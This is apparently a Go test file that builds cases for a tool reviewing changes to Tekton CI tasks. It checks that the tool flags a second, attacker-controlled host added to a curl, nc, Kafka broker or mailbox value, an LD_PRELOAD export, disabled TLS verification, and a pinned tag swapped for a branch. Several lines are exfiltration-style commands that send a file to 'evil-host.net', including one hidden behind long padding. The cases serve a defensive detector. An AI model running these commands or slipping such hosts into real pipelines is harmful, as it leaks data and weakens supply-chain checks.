package cli_test

import "fmt"

// pullsOfNeighbours name a place beside one that is known, so near that what parts them is one letter, or far behind.
func pullsOfNeighbours() []pull {
	task := func(script, env string) string {
		return inTarget("Task", `"x"`, fmt.Sprintf(`{apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "x", namespace: "notebook-ci"}, spec: steps: [{name: "a", image: "a", env: [{name: "BROKERS", value: %q}], script: %q}]}`, env, script))
	}
	const moved, good = "change/source-changed", "curl -d @/x good.example.com"
	var all []pull
	add := func(name, before, after, envBefore, envAfter string, wants ...string) {
		all = append(all, pull{kind: "neighbours", name: name, exit: -1, wants: append([]string{moved}, wants...),
			base: map[string]string{prod: task(before, envBefore)}, head: map[string]string{prod: task(after, envAfter)}})
	}
	const evilHost = "evil-host.net"
	add("a second host", good, good+" "+evilHost, "", "", evilHost)
	add("a third host", good+" other.example.com", good+" other.example.com "+evilHost, "", "", evilHost)
	add("a second host with a port", good+":443", good+":443 "+evilHost+":443", "", "", evilHost)
	add("a second address", "nc 203.0.113.9 80", "nc 203.0.113.9 198.51.100.77 80", "", "", "198.51.100.77")
	add("a second broker", "true", "true", "kafka.example.com:9092", "kafka.example.com:9092,"+evilHost+":9092", evilHost)
	add("a host behind a long word", "true", fmt.Sprintf("curl -d @/x -A %01500d %s", 1, evilHost), "", "", evilHost)
	add("a second mailbox", "true", "true", "a@example.com,b@example.com,c@example.com", "a@example.com,b@example.com,exfil@"+evilHost, evilHost)
	add("quoted hosts", `x "good.example.com" `, `x "good.example.com" "evil-host.com"`, "", "", "evil-host.com")
	for _, word := range []string{"cosign verify --insecure-ignore-tlog a", "export LD_PRELOAD=/x.so", "curl -sk good.example.com", "git -c http.sslVerify=false fetch", "wget --no-check-certificate x"} {
		add("not verified: "+word, "true", word, "", "", "is not verified")
	}
	for _, branch := range []string{"main", "refs/heads/evil", "latest"} {
		all = append(all, pull{kind: "neighbours", name: "a tag becomes " + branch, exit: -1, wants: []string{moved, "another thing tomorrow"},
			base: map[string]string{prod: task("true", "v1.4.0")}, head: map[string]string{prod: task("true", branch)}})
	}
	return all
}
